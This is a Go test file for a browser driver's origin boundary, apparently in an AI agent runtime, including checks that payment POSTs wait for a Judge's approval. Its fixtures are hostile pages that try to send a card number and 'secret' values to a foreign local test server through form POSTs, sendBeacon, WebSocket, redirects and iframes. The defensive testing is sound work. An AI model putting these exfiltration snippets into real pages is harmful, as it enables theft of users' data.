package driver_test

import (
	"context"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"reflect"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/aegis-run/aegis/contract"
	"github.com/aegis-run/aegis/driver"
)

// The boundary's tests: a hostile page on an allowed origin (site) tries
// to reach another origin (foreign: another server on 127.0.0.1, on
// another port). Ground truth is what foreign's server received.

// recorder is an httptest server that records the requests it receives.
type recorder struct {
	*httptest.Server
	mu   sync.Mutex
	reqs []string // "METHOD /path"
	// bodies holds the bodies of the POSTs received, by path.
	bodies map[string]string
	// leaked is set when a request arrived with the driver's mark.
	leaked bool
}

func newRecorder(t testing.TB, pages map[string]string) *recorder {
	t.Helper()
	r := &recorder{bodies: map[string]string{}}
	r.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		_ = req.ParseForm()
		r.mu.Lock()
		r.reqs = append(r.reqs, req.Method+" "+req.URL.Path)
		if req.Header.Get("X-Aegis-Judged") != "" {
			r.leaked = true
		}
		if req.Method == http.MethodPost {
			r.bodies[req.URL.Path] = req.PostForm.Encode()
			if c, err := req.Cookie("session"); err == nil {
				r.bodies[req.URL.Path] += "; cookie " + c.Value
			}
		}
		r.mu.Unlock()
		http.SetCookie(w, &http.Cookie{Name: "session", Value: "s1"})
		if req.URL.Path == "/download" {
			w.Header().Set("Content-Disposition", `attachment; filename="invoice.txt"`)
			fmt.Fprint(w, "invoice")
			return
		}
		if target, ok := strings.CutPrefix(req.URL.Path, "/redirect307"); ok {
			http.Redirect(w, req, target, http.StatusTemporaryRedirect)
			return
		}
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		if page, ok := pages[req.URL.Path]; ok {
			fmt.Fprint(w, page)
			return
		}
		fmt.Fprintf(w, "<!doctype html><title>%s</title><p>reached %s %s</p>", req.URL.Path, req.Method, req.URL.Path)
	}))
	t.Cleanup(r.Close)
	return r
}

// received is what the server received, in order, but the favicon, which
// the browser asks for on its own whenever it likes.
func (r *recorder) received() []string {
	r.mu.Lock()
	defer r.mu.Unlock()
	var out []string
	for _, q := range r.reqs {
		if q != "GET /favicon.ico" {
			out = append(out, q)
		}
	}
	return out
}

func (r *recorder) markLeaked() bool {
	r.mu.Lock()
	defer r.mu.Unlock()
	return r.leaked
}

func (r *recorder) body(path string) (string, bool) {
	r.mu.Lock()
	defer r.mu.Unlock()
	b, ok := r.bodies[path]
	return b, ok
}

// effects is a driver.Effects that keeps what it is told and hands Judge
// calls to judge.
type effects struct {
	mu      sync.Mutex
	refused []contract.Effect
	changed chan struct{}
	judge   func(ctx context.Context, e contract.Effect) error
}

func newEffects(judge func(context.Context, contract.Effect) error) *effects {
	return &effects{changed: make(chan struct{}, 1), judge: judge}
}

func (f *effects) refusals() []contract.Effect {
	f.mu.Lock()
	defer f.mu.Unlock()
	return append([]contract.Effect(nil), f.refused...)
}

func (f *effects) Judge(ctx context.Context, e contract.Effect) error { return f.judge(ctx, e) }

func (f *effects) Refused(e contract.Effect) {
	f.mu.Lock()
	f.refused = append(f.refused, e)
	f.mu.Unlock()
	select {
	case f.changed <- struct{}{}:
	default:
	}
}

// refusedAt waits for a refused effect whose origin and path are origin
// and path, and returns it.
func (f *effects) refusedAt(t *testing.T, origin, path string) (contract.Effect, bool) {
	t.Helper()
	timeout := time.NewTimer(15 * time.Second)
	defer timeout.Stop()
	for {
		f.mu.Lock()
		for _, e := range f.refused {
			if e.Origin == origin && e.Path == path {
				f.mu.Unlock()
				return e, true
			}
		}
		f.mu.Unlock()
		select {
		case <-f.changed:
		case <-timeout.C:
			return contract.Effect{}, false
		}
	}
}

// blockedAt reports whether d's blocked log holds a request to origin
// whose URL has path.
func blockedAt(d driver.Driver, origin, path string) bool {
	for _, b := range d.(driver.Blocker).BlockedRequests() {
		if b.Origin == origin && strings.Contains(b.URL, path) {
			return true
		}
	}
	return false
}

var boundaryModes = []contract.DriverMode{contract.ModePlaywright, contract.ModeSandbox}

func TestBoundaryRefusesForeignOrigins(t *testing.T) {
	foreign := newRecorder(t, nil)
	fo := foreign.URL
	site := newRecorder(t, map[string]string{
		"/link":     `<a id="go" href="` + fo + `/link?secret=1">partner</a>`,
		"/form":     `<form method="POST" action="` + fo + `/collect"><input name="card" value="4111"><button id="go">Send</button></form>`,
		"/form-get": `<form method="GET" action="` + fo + `/search"><input name="q" value="typed"><button id="go">Search</button></form>`,
		"/popup":    `<button id="go" onclick="window.open('` + fo + `/popup')">Open</button>`,
		"/location": `<button id="go" onclick="location='` + fo + `/location'">Go</button>`,
		"/meta":     `<meta http-equiv="refresh" content="0;url=` + fo + `/refresh"><p>wait</p>`,
		// After load: a redirect that fired before it would race the
		// navigation that opens the page (a loaded machine fires the 10 ms
		// timer first), and the test is about the redirect, not that race.
		"/timer":  `<script>addEventListener('load', () => setTimeout(() => { location.href = '` + fo + `/timer' }, 10))</script><p>wait</p>`,
		"/iframe": `<iframe src="` + fo + `/frame"></iframe>`,
		"/beacon": `<button id="go" onclick="navigator.sendBeacon('` + fo + `/beacon', 'typed secret')">Send</button>`,
		"/unload": `<script>addEventListener('pagehide', () => navigator.sendBeacon('` + fo + `/unload-beacon', new URLSearchParams({a: 'secret'})))</script><p>bye</p>`,
		"/file":   `<a id="go" href="/download">Invoice</a>`,
		"/ws":     `<script>new WebSocket('` + strings.Replace(fo, "http:", "ws:", 1) + `/ws')</script>`,
	})
	tests := []struct {
		name   string
		page   string
		click  string          // selector to click; "" when the page acts alone
		leave  bool            // navigate away afterwards (pagehide)
		direct bool            // a navigate action to foreign itself
		want   contract.Effect // its origin is foreign's unless set
	}{
		{name: "navigate action", direct: true, want: contract.Effect{Kind: contract.EffectNavigation, Method: "GET", Path: "/direct"}},
		{name: "link", page: "/link", click: "#go", want: contract.Effect{Kind: contract.EffectNavigation, Method: "GET", Path: "/link"}},
		{name: "form POST", page: "/form", click: "#go", want: contract.Effect{Kind: contract.EffectNavigation, Method: "POST", Path: "/collect"}},
		{name: "form GET", page: "/form-get", click: "#go", want: contract.Effect{Kind: contract.EffectNavigation, Method: "GET", Path: "/search"}},
		{name: "window.open", page: "/popup", click: "#go", want: contract.Effect{Kind: contract.EffectNavigation, Method: "GET", Path: "/popup"}},
		{name: "location=", page: "/location", click: "#go", want: contract.Effect{Kind: contract.EffectNavigation, Method: "GET", Path: "/location"}},
		{name: "meta refresh", page: "/meta", want: contract.Effect{Kind: contract.EffectNavigation, Method: "GET", Path: "/refresh"}},
		{name: "timer redirect", page: "/timer", want: contract.Effect{Kind: contract.EffectNavigation, Method: "GET", Path: "/timer"}},
		{name: "iframe", page: "/iframe", want: contract.Effect{Kind: contract.EffectFrame, Method: "GET", Path: "/frame"}},
		{name: "sendBeacon", page: "/beacon", click: "#go", want: contract.Effect{Kind: contract.EffectRequest, Method: "POST", Path: "/beacon"}},
		{name: "sendBeacon on pagehide", page: "/unload", leave: true, want: contract.Effect{Kind: contract.EffectRequest, Method: "POST", Path: "/unload-beacon"}},
		{name: "WebSocket", page: "/ws", want: contract.Effect{Kind: contract.EffectRequest, Method: "GET", Path: "/ws"}},
		{name: "download", page: "/file", click: "#go", want: contract.Effect{Kind: contract.EffectDownload, Origin: site.URL, Path: "/download"}},
	}
	for _, mode := range boundaryModes {
		t.Run(string(mode), func(t *testing.T) {
			fx := newEffects(func(context.Context, contract.Effect) error { return nil })
			d := open(t, mode, site.URL, func(c *driver.Config) { c.Effects = fx })
			closeDriver(t, d)
			for _, tt := range tests {
				t0 := time.Now()
				if tt.direct {
					_, err := act(t, d, contract.Action{Type: contract.ActNavigate, URL: fo + tt.want.Path})
					if !errors.Is(err, driver.ErrNavigationBlocked) {
						t.Errorf("%s: %v, want navigation_blocked", tt.name, err)
					}
				} else if _, err := act(t, d, contract.Action{Type: contract.ActNavigate, URL: site.URL + tt.page}); err != nil {
					t.Fatalf("%s: open %s: %v", tt.name, tt.page, err)
				}
				if tt.click != "" {
					if _, err := act(t, d, contract.Action{Type: contract.ActClick, Selector: tt.click}); err != nil {
						t.Errorf("%s: click %s: %v", tt.name, tt.click, err)
					}
				}
				if tt.leave {
					if _, err := act(t, d, contract.Action{Type: contract.ActNavigate, URL: site.URL + "/next"}); err != nil {
						t.Fatalf("%s: leave: %v", tt.name, err)
					}
				}
				want := tt.want
				if want.Origin == "" {
					want.Origin = fo
				}
				got, ok := fx.refusedAt(t, want.Origin, want.Path)
				if !ok {
					t.Errorf("%s: no refused effect at %s%s; refused: %+v", tt.name, want.Origin, want.Path, fx.refusals())
					continue
				}
				if got.Refused == "" {
					t.Errorf("%s: refused without a reason", tt.name)
				}
				t.Logf("%s: resource type %q, refused because %q", tt.name, got.ResourceType, got.Refused)
				got.ResourceType, got.Refused = "", ""
				if !reflect.DeepEqual(got, want) {
					t.Errorf("%s: refused %+v, want %+v", tt.name, got, want)
				}
				if !blockedAt(d, want.Origin, want.Path) {
					t.Errorf("%s: %s%s is not in BlockedRequests", tt.name, want.Origin, want.Path)
				}
				t.Logf("%s: %v", tt.name, time.Since(t0).Round(time.Millisecond))
			}
			if got := foreign.received(); len(got) != 0 {
				t.Errorf("the foreign origin received %q, want nothing", got)
			}
		})
	}
}

// payPage is a same-origin form that sends a payment: what Judge must see
// is its method, origin, path and field names, never the values.
const payPage = `<form method="POST" action="/pay?from=form"><input name="card" value="4111-secret"><input name="amount" value="100"><button id="pay">Continue</button></form>`

func TestBoundaryHoldsStateChangingRequests(t *testing.T) {
	for _, mode := range boundaryModes {
		t.Run(string(mode), func(t *testing.T) {
			for _, tt := range []struct {
				name     string
				verdict  error
				wantPaid bool
			}{
				{"refused", errors.New("policy: a payment needs approval"), false},
				{"allowed", nil, true},
			} {
				site := newRecorder(t, map[string]string{"/checkout": payPage})
				judged := make(chan contract.Effect, 4)
				fx := newEffects(func(_ context.Context, e contract.Effect) error {
					judged <- e
					return tt.verdict
				})
				d := open(t, mode, site.URL, func(c *driver.Config) { c.Effects = fx })
				closeDriver(t, d)
				if _, err := act(t, d, contract.Action{Type: contract.ActNavigate, URL: site.URL + "/checkout"}); err != nil {
					t.Fatal(err)
				}
				res, err := act(t, d, contract.Action{Type: contract.ActClick, Selector: "#pay"})
				if err != nil {
					t.Fatalf("%s: click: %v", tt.name, err)
				}
				var got contract.Effect
				select {
				case got = <-judged:
				default:
					t.Fatalf("%s: the click returned and Judge was never asked", tt.name)
				}
				if n := len(judged); n != 0 {
					t.Errorf("%s: Judge was asked %d more times, want once", tt.name, n)
				}
				if site.markLeaked() {
					t.Errorf("%s: the driver's mark reached the server", tt.name)
				}
				want := contract.Effect{Kind: contract.EffectNavigation, Method: "POST", Origin: site.URL, Path: "/pay", Fields: []string{"amount", "card"}, ResourceType: "document"}
				if !reflect.DeepEqual(got, want) {
					t.Errorf("%s: judged %+v, want %+v", tt.name, got, want)
				}
				body, paid := site.body("/pay")
				if paid != tt.wantPaid {
					t.Errorf("%s: the server received the POST: %v, want %v", tt.name, paid, tt.wantPaid)
				}
				if paid && (!strings.Contains(body, "4111-secret") || !strings.Contains(body, "cookie s1")) {
					t.Errorf("%s: the allowed POST arrived without its values or cookie: %q", tt.name, body)
				}
				if gotURL, wantURL := strings.HasPrefix(res.URL, site.URL+"/pay"), tt.wantPaid; gotURL != wantURL {
					t.Errorf("%s: after the click the page is at %s; at /pay: %v, want %v", tt.name, res.URL, gotURL, wantURL)
				}
				if gotBlocked := blockedAt(d, site.URL, "/pay"); gotBlocked != !tt.wantPaid {
					t.Errorf("%s: /pay in BlockedRequests: %v, want %v", tt.name, gotBlocked, !tt.wantPaid)
				}
				if got := fx.refusals(); len(got) != 0 {
					t.Errorf("%s: Refused was told %+v, want nothing (Judge already knows)", tt.name, got)
				}
			}
		})
	}
}

// TestBoundaryClickWaitsForJudge: a Judge that takes longer than the
// action timeout (an approval) does not make the click give up on its
// navigation: once Judge answers, the navigation commits and the click
// returns on the new page.
func TestBoundaryClickWaitsForJudge(t *testing.T) {
	const actionTimeout = 500 * time.Millisecond
	for _, mode := range boundaryModes {
		t.Run(string(mode), func(t *testing.T) {
			site := newRecorder(t, map[string]string{"/checkout": payPage})
			judging := make(chan contract.Effect, 1)
			release := make(chan struct{})
			fx := newEffects(func(_ context.Context, e contract.Effect) error {
				judging <- e
				<-release
				return nil
			})
			d := open(t, mode, site.URL, func(c *driver.Config) {
				c.Effects = fx
				c.ActionTimeout = actionTimeout
			})
			closeDriver(t, d)
			if _, err := act(t, d, contract.Action{Type: contract.ActNavigate, URL: site.URL + "/checkout"}); err != nil {
				t.Fatal(err)
			}
			type outcome struct {
				res contract.ToolResult
				err error
			}
			done := make(chan outcome, 1)
			go func() {
				ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
				defer cancel()
				res, err := d.Act(ctx, contract.Action{ID: "a1", Reason: "test", Type: contract.ActClick, Selector: "#pay"})
				done <- outcome{res, err}
			}()
			<-judging
			// Hold the answer past the action timeout: a click that
			// stopped waiting would return now, before the answer.
			hold := time.NewTimer(3 * actionTimeout)
			select {
			case o := <-done:
				t.Fatalf("the click returned while Judge was deciding: %+v, %v", o.res, o.err)
			case <-hold.C:
			}
			close(release)
			o := <-done
			if o.err != nil {
				t.Fatalf("click: %v", o.err)
			}
			if got, want := strings.HasPrefix(o.res.URL, site.URL+"/pay"), true; got != want {
				t.Errorf("after the click the page is at %s; at /pay: %v, want %v", o.res.URL, got, want)
			}
			if _, got := site.body("/pay"); !got {
				t.Error("the server never received the allowed POST")
			}
		})
	}
}

// TestBoundaryJudgesWhatRoutingMisses: request routing sees neither a
// beacon sent on pagehide nor the second hop of a 307 redirect; the proxy
// judges them.
func TestBoundaryJudgesWhatRoutingMisses(t *testing.T) {
	site := newRecorder(t, map[string]string{
		"/leave":    `<script>addEventListener('pagehide', () => navigator.sendBeacon('/bye', new URLSearchParams({note: 'secret'})))</script><p>bye</p>`,
		"/checkout": `<form method="POST" action="/redirect307/pay"><input name="card" value="4111-secret"><button id="pay">Continue</button></form>`,
	})
	tests := []struct {
		name  string
		page  string
		click string
		want  []contract.Effect // what Judge was asked, in order
		got   []string          // what the server received
	}{
		{"beacon on pagehide", "/leave", "", []contract.Effect{
			{Kind: contract.EffectRequest, Method: "POST", Origin: site.URL, Path: "/bye", Fields: []string{"note"}},
		}, []string{"GET /leave", "GET /next"}},
		{"307 redirect of a judged POST", "/checkout", "#pay", []contract.Effect{
			{Kind: contract.EffectNavigation, Method: "POST", Origin: site.URL, Path: "/redirect307/pay", Fields: []string{"card"}, ResourceType: "document"},
			{Kind: contract.EffectNavigation, Method: "POST", Origin: site.URL, Path: "/pay", Fields: []string{"card"}},
		}, []string{"GET /checkout", "POST /redirect307/pay"}},
	}
	for _, mode := range boundaryModes {
		t.Run(string(mode), func(t *testing.T) {
			for _, tt := range tests {
				var mu sync.Mutex
				var judged []contract.Effect
				fx := newEffects(func(_ context.Context, e contract.Effect) error {
					mu.Lock()
					defer mu.Unlock()
					judged = append(judged, e)
					if e.Path == "/pay" || e.Path == "/bye" {
						return errors.New("policy: refused")
					}
					return nil
				})
				site.mu.Lock()
				site.reqs = nil
				site.mu.Unlock()
				d := open(t, mode, site.URL, func(c *driver.Config) { c.Effects = fx })
				if _, err := act(t, d, contract.Action{Type: contract.ActNavigate, URL: site.URL + tt.page}); err != nil {
					t.Fatal(err)
				}
				if tt.click != "" {
					if _, err := act(t, d, contract.Action{Type: contract.ActClick, Selector: tt.click}); err != nil {
						t.Fatalf("%s: click: %v", tt.name, err)
					}
				} else if _, err := act(t, d, contract.Action{Type: contract.ActNavigate, URL: site.URL + "/next"}); err != nil {
					t.Fatalf("%s: leave: %v", tt.name, err)
				}
				eventually(t, tt.name+": Judge asked", func() bool {
					mu.Lock()
					defer mu.Unlock()
					return len(judged) >= len(tt.want)
				})
				ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
				_ = d.Close(ctx)
				cancel()
				mu.Lock()
				if !reflect.DeepEqual(judged, tt.want) {
					t.Errorf("%s: judged %+v, want %+v", tt.name, judged, tt.want)
				}
				mu.Unlock()
				if got := site.received(); !reflect.DeepEqual(got, tt.got) {
					t.Errorf("%s: the server received %q, want %q", tt.name, got, tt.got)
				}
			}
		})
	}
}
